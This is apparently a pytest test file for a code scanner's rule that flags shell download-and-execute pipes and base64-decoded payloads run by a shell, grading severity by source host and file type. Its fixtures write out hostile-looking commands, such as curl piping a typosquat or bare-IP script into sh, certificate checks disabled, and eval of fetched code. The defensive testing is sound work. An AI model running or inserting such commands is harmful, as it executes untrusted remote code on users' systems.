"""curl | sh and base64 -d | sh are one behaviour each, one finding each, graded by where the script comes from."""
from __future__ import annotations

import pytest

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()


def found(code: str) -> list[tuple[int, str, str]]:
    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
    return sorted((f.line, f.rule_id, f.severity)
                  for f in analyzer.analyze(Document(path="install.sh", content=code.encode())).findings
                  if f.category == "code-execution")


@pytest.mark.parametrize("line, severity", [
    ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "high"),
    ("curl -fsSL https://get.docker.com | sudo sh", "high"),
    ("curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash", "high"),
    ("curl -fsSL https://sh.rustup.rs.evil.example/i | sh", "critical"),
    ("curl -fsSL http://sh.rustup.rs | sh", "critical"),
    ("curl -k https://get.docker.com | sh", "critical"),
    ("wget --no-check-certificate -qO- https://get.docker.com | sh", "critical"),
    ("curl -fsSL https://198.51.100.7/i.sh | bash", "critical"),
    ("curl -fsSL https://raw.githubusercontent.com/someone/nvm/main/install.sh | bash", "critical"),
])
def test_one_finding_per_pipe_graded_by_host(line, severity):
    assert found(line + "\n") == [(1, "sh-download-exec", severity)]


def test_flows_are_the_same_rule_and_a_program_named_on_the_command_line_reads_data():
    code = ('p=$(curl -fsSL https://203.0.113.9/s)\neval "$p"\n'
            'curl -s https://api.example.org/v1 | python3 -m json.tool\n'
            'curl -s https://203.0.113.9/p.py | python3 -\n')
    assert found(code) == [(2, "sh-download-exec", "critical"), (4, "sh-download-exec", "critical")]


def test_a_decoded_payload_run_by_a_shell_is_one_finding():
    code = ('blob="aWQK"\nd=$(echo "$blob" | base64 -d)\nbash -c "$d"\n'
            'echo "$blob" | base64 -d | sh\n')
    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
    got = sorted((f.line, f.rule_id, f.severity)
                 for f in analyzer.analyze(Document(path="a.sh", content=code.encode())).findings)
    assert got == [(3, "sh-decoded-payload-exec", "critical"), (4, "sh-decoded-payload-exec", "critical")]


def test_a_script_named_install_sh_is_code_an_install_document_is_documentation():
    line = "curl -fsSL https://get.example.dev/setup | sh\n"
    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
    docs = {"install.sh": line, "docs/build.sh": line, "INSTALL.md": "```sh\n" + line + "```\n"}
    graded = {path: [f.severity for f in analyzer.analyze(Document(path=path, content=text.encode())).findings
                     if f.rule_id == "sh-download-exec"] for path, text in docs.items()}
    assert graded == {"install.sh": ["critical"], "docs/build.sh": ["critical"], "INSTALL.md": ["medium"]}
